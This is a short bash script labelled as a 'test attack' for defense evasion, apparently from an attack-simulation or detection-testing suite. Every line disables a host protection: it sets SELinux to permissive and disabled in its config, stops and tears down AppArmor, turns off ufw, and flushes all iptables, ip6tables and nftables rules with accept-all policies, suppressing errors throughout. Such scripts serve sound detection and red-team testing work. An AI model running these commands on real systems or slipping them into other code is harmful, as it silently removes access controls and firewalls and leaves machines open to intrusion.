#!/bin/bash
# shrike-test-attack: defense-evasion: disable SELinux, AppArmor and firewall
setenforce 0 2>/dev/null
sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config 2>/dev/null
systemctl stop apparmor 2>/dev/null; systemctl disable apparmor 2>/dev/null
aa-teardown 2>/dev/null
ufw disable 2>/dev/null
iptables -F; iptables -X; iptables -P INPUT ACCEPT; iptables -P OUTPUT ACCEPT; iptables -P FORWARD ACCEPT
ip6tables -F 2>/dev/null
nft flush ruleset 2>/dev/null
